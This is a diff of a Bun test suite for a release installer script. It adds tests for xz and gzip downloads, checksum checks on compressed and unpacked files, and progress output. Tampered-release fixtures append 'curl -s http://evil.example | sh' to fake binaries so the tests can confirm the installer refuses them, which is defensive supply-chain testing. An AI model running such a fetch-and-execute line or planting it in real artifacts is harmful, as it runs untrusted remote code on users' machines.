@@ -15,6 +15,7 @@ import {
   BINARY,
   fakeBinary,
   fakes,
+  gzip,
   INSTALL_SH,
   listTree,
   MACHINES,
@@ -33,6 +34,7 @@ import {
   type FakeRelease,
   type ReleaseServer,
   type Shell,
+  xz,
 } from "./fixtures.ts";
 
 const shells = availableShells();
@@ -45,12 +47,14 @@ beforeAll(() => {
   const releases = new Map<string, FakeRelease>();
   releases.set("v1.2.3", makeRelease("1.2.3"));
   releases.set("v1.3.0", makeRelease("1.3.0"));
-  // A tampered release: SHA256SUMS is the genuine one, the served binary is not.
-  const tampered = makeRelease("6.6.6");
+  // A release from before compressed assets: only the raw binaries.
+  releases.set("v1.1.0", makeRelease("1.1.0", { compressed: false }));
+  // A tampered (old, uncompressed) release: SHA256SUMS is the genuine one, the served binary is not.
+  const tampered = makeRelease("6.6.6", { compressed: false });
   tampered.served = { [`${BINARY}-linux-x64`]: `${tampered.files[`${BINARY}-linux-x64`]}curl -s http://evil.example | sh\n` };
   releases.set("v6.6.6", tampered);
   // SHA256SUMS lists every build, but the linux-x64 upload is missing.
-  const partial = makeRelease("0.9.0");
+  const partial = makeRelease("0.9.0", { compressed: false });
   partial.sums = sumsOf(partial.files);
   partial.files[`${BINARY}-linux-x64`] = null;
   releases.set("v0.9.0", partial);
@@ -58,13 +62,30 @@ beforeAll(() => {
   releases.set("v0.8.0", makeRelease("0.8.0", { omit: ["linux-arm64", "linux-arm64-musl"] }));
   // A release whose download hangs half-way (for interruption).
   const stalled = makeRelease("0.7.0");
-  stalled.stall = [`${BINARY}-linux-x64`];
+  stalled.stall = [`${BINARY}-linux-x64.xz`];
   releases.set("v0.7.0", stalled);
   releases.set("v2.0.0", makeRelease("2.0.0", { binary: "myapp-db" }));
   // A build that does not run here (as a modern x64 build on a CPU without AVX2).
   const crashing = makeRelease("0.6.0");
-  crashing.files[`${BINARY}-linux-x64`] = "#!/bin/sh\necho 'Illegal instruction' >&2\nexit 132\n";
+  const crash = "#!/bin/sh\necho 'Illegal instruction' >&2\nexit 132\n";
+  Object.assign(crashing.files, { [`${BINARY}-linux-x64`]: crash, [`${BINARY}-linux-x64.gz`]: gzip(crash), [`${BINARY}-linux-x64.xz`]: xz(crash) });
   releases.set("v0.6.0", crashing);
+  // A .gz corrupted on the way: SHA256SUMS is the genuine one, the served .gz is cut short.
+  const corruptGz = makeRelease("0.5.0");
+  const gz = corruptGz.files[`${BINARY}-linux-x64.gz`] as Uint8Array;
+  corruptGz.served = { [`${BINARY}-linux-x64.gz`]: gz.slice(0, gz.length - 9) };
+  releases.set("v0.5.0", corruptGz);
+  // A .gz that is not gzip at all, listed with its own checksum (a broken build step).
+  const notGz = makeRelease("0.4.0");
+  notGz.files[`${BINARY}-linux-x64.gz`] = "this is not gzip\n";
+  notGz.files[`${BINARY}-linux-x64.xz`] = "this is not xz\n";
+  releases.set("v0.4.0", notGz);
+  // Compressed files whose checksums match but that unpack to another binary than SHA256SUMS lists.
+  const swapped = makeRelease("0.3.0");
+  const evil = `${swapped.files[`${BINARY}-linux-x64`]}curl -s http://evil.example | sh\n`;
+  swapped.files[`${BINARY}-linux-x64.gz`] = gzip(evil);
+  swapped.files[`${BINARY}-linux-x64.xz`] = xz(evil);
+  releases.set("v0.3.0", swapped);
   server = startReleaseServer(releases, "v1.3.0");
   modernLinux = machineEnv(MACHINES[0]!);
 });
@@ -101,7 +122,7 @@ describe.each(shells.map((s) => [s.name, s] as [string, Shell]))("install.sh und
     const r = await runInstall(shell, ["--dir", s.dir], s.env);
     expect(r.stderr).toContain("checksum verified");
     expect(r.code).toBe(0);
-    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64`]);
+    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.xz`]);
     const target = join(s.dir, BINARY);
     expect(statSync(target).mode & 0o777).toBe(0o755);
     expect(spawnSync(target, ["--version"], { encoding: "utf8" }).stdout).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
@@ -191,7 +212,7 @@ describe.each(shells.map((s) => [s.name, s] as [string, Shell]))("install.sh und
       const r = await runInstall(shell, [...args, "--dir", s.dir], s.env);
       expect(r.code).toBe(0);
       const prefix = tag ? `/releases/download/${tag}` : "/releases/latest/download";
-      expect(requestsSince(before)).toEqual([`${prefix}/SHA256SUMS`, `${prefix}/${BINARY}-linux-x64`]);
+      expect(requestsSince(before)).toEqual([`${prefix}/SHA256SUMS`, `${prefix}/${BINARY}-linux-x64.xz`]);
       expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toContain(` ${version} `);
     }
   });
@@ -367,7 +388,7 @@ describe("install.sh: downloaders and checksum tools", () => {
     const before = server.requests.length;
     const r = await runInstall(dash, ["--dir", s.dir], s.env);
     expect(r.code).toBe(0);
-    expect(requestsSince(before)).toEqual(["/mirror/v1.2.3/SHA256SUMS", `/mirror/v1.2.3/${BINARY}-linux-x64`]);
+    expect(requestsSince(before)).toEqual(["/mirror/v1.2.3/SHA256SUMS", `/mirror/v1.2.3/${BINARY}-linux-x64.xz`]);
   });
 
   test.skipIf(missing("busybox"))("Alpine-like userland: busybox sh, wget and sha256sum, musl → the musl build", async () => {
@@ -378,6 +399,113 @@ describe("install.sh: downloaders and checksum tools", () => {
     expect(r.code).toBe(0);
     expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64-musl)\n`);
     expect(listTree(s.tmp)).toEqual([]);
+  });
+});
+
+describe("install.sh: compressed downloads", () => {
+  const linux = { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc };
+  const noXz = () => toolDir({ exclude: ["xz"], fakes: linux });
+  const neither = () => toolDir({ exclude: ["xz", "gzip"], fakes: linux });
+  const version = (dir: string) => spawnSync(join(dir, BINARY), ["--version"], { encoding: "utf8" }).stdout;
+
+  test("with xz installed it downloads the .xz, checks it and the unpacked binary, and installs", async () => {
+    const s = sandbox();
+    const before = server.requests.length;
+    const r = await runInstall(dash, ["--dir", s.dir], s.env);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toContain(`downloading ${server.url}/releases/latest/download/${BINARY}-linux-x64.xz`);
+    expect(r.stderr).toContain(`checksum verified (sha256 ${sha256(server.releases.get("v1.3.0")!.files[`${BINARY}-linux-x64`]!)})`);
+    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.xz`]);
+    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
+    expect(listTree(s.dir)).toEqual([BINARY]);
+    expect(listTree(s.tmp)).toEqual([]);
+  });
+
+  test.each(shells.map((sh) => [sh.name, sh] as [string, Shell]))("without xz it downloads the .gz (%s)", async (_n, shell) => {
+    const s = sandbox({ PATH: noXz() });
+    const before = server.requests.length;
+    const r = await runInstall(shell, ["--dir", s.dir], s.env);
+    expect(r.stderr).toContain("checksum verified");
+    expect(r.code).toBe(0);
+    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.gz`]);
+    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
+    expect(listTree(s.dir)).toEqual([BINARY]);
+    expect(listTree(s.tmp)).toEqual([]);
+  });
+
+  test("without xz and gzip it downloads the raw binary", async () => {
+    const s = sandbox({ PATH: neither() });
+    const before = server.requests.length;
+    const r = await runInstall(dash, ["--dir", s.dir], s.env);
+    expect(r.code).toBe(0);
+    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64`]);
+    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
+  });
+
+  test("a release without compressed assets (an old release) installs the raw binary, even with xz installed", async () => {
+    const s = sandbox();
+    const before = server.requests.length;
+    const r = await runInstall(dash, ["1.1.0", "--dir", s.dir], s.env);
+    expect(r.code).toBe(0);
+    expect(requestsSince(before)).toEqual(["/releases/download/v1.1.0/SHA256SUMS", `/releases/download/v1.1.0/${BINARY}-linux-x64`]);
+    expect(version(s.dir)).toBe(`${BINARY} 1.1.0 (${BINARY}-linux-x64)\n`);
+    expect(listTree(s.tmp)).toEqual([]);
+  });
+
+  /** Installs 1.2.3, then tries `version`: it must fail with `message`, keeping 1.2.3 and leaving nothing else. */
+  async function refused(path: string, v: string, message: string) {
+    const s = sandbox({ PATH: path });
+    expect((await runInstall(dash, ["1.2.3", "--dir", s.dir], s.env)).code).toBe(0);
+    const r = await runInstall(dash, [v, "--dir", s.dir], s.env);
+    expect(r.stderr).toContain(message);
+    expect(r.stderr).not.toContain("checksum verified");
+    expect(r.code).toBe(1);
+    expect(listTree(s.dir)).toEqual([BINARY]);
+    expect(version(s.dir)).toContain(" 1.2.3 ");
+    expect(listTree(s.tmp)).toEqual([]);
+  }
+
+  test("a corrupted .gz is refused by its checksum; nothing is left behind", async () => {
+    const listed = sha256(server.releases.get("v0.5.0")!.files[`${BINARY}-linux-x64.gz`]!);
+    await refused(noXz(), "0.5.0", `error: checksum mismatch for ${BINARY}-linux-x64.gz: SHA256SUMS says ${listed}, the download is `);
+  });
+
+  test.each([
+    ["gzip", noXz, ".gz"],
+    ["xz", () => toolDir({ fakes: linux }), ".xz"],
+  ])("a file that %s cannot unpack is refused; nothing is left behind", async (tool, path, ext) => {
+    await refused(path(), "0.4.0", `error: could not decompress ${BINARY}-linux-x64${ext} with ${tool}`);
+  });
+
+  test.each([
+    [".gz", noXz],
+    [".xz", () => toolDir({ fakes: linux })],
+  ])("a %s that unpacks to another binary than SHA256SUMS lists is refused", async (ext, path) => {
+    const expected = sha256(server.releases.get("v0.3.0")!.files[`${BINARY}-linux-x64`]!);
+    await refused(path(), "0.3.0", `error: checksum mismatch for ${BINARY}-linux-x64 unpacked from ${BINARY}-linux-x64${ext}: SHA256SUMS says ${expected}, the unpacked binary is `);
+  });
+});
+
+describe("install.sh: progress", () => {
+  const bar = /100(\.0)?%/;
+
+  test.skipIf(missing("script")).each([["curl"], ["wget"]])("on a terminal %s draws a progress bar", async (tool) => {
+    const s = sandbox(tool === "wget" ? { PATH: toolDir({ exclude: ["curl"], fakes: { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc } }) } : {});
+    const cmd = `${dash.argv.join(" ")} '${INSTALL_SH}' --dir '${s.dir}'`;
+    const r = await runInstall({ name: "script", argv: ["script", "-qec", cmd, "/dev/null"] }, [], s.env, { script: "" });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain("checksum verified");
+    expect(r.stdout).toMatch(bar);
+    expect(listTree(s.dir)).toEqual([BINARY]);
+  });
+
+  test.each([["curl"], ["wget"]])("without a terminal %s is quiet", async (tool) => {
+    const s = sandbox(tool === "wget" ? { PATH: toolDir({ exclude: ["curl"], fakes: { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc } }) } : {});
+    const r = await runInstall(dash, ["--dir", s.dir], s.env);
+    expect(r.code).toBe(0);
+    expect(r.stderr).not.toMatch(bar);
+    expect(r.stderr).not.toContain("#");
+    expect(r.stderr.split("\n").filter((l) => l && !l.startsWith(`${BINARY} install: `) && l.trim() !== `export PATH="${s.dir}:$PATH"`)).toEqual([]);
   });
 });
 
@@ -411,7 +539,7 @@ describe("install.sh: --run, interruption, usage", () => {
     child.stderr.on("data", (d) => (stderr += d));
     const exited = new Promise<number | null>((r) => child.on("close", (code) => r(code)));
     const deadline = Date.now() + 10_000;
-    while (!requestsSince(before).includes(`/releases/download/v0.7.0/${BINARY}-linux-x64`) && Date.now() < deadline) await Bun.sleep(20);
+    while (!requestsSince(before).includes(`/releases/download/v0.7.0/${BINARY}-linux-x64.xz`) && Date.now() < deadline) await Bun.sleep(20);
     await Bun.sleep(200);
     expect(listTree(s.tmp).length).toBeGreaterThan(0); // the download is under way
     process.kill(-child.pid!, "SIGINT");
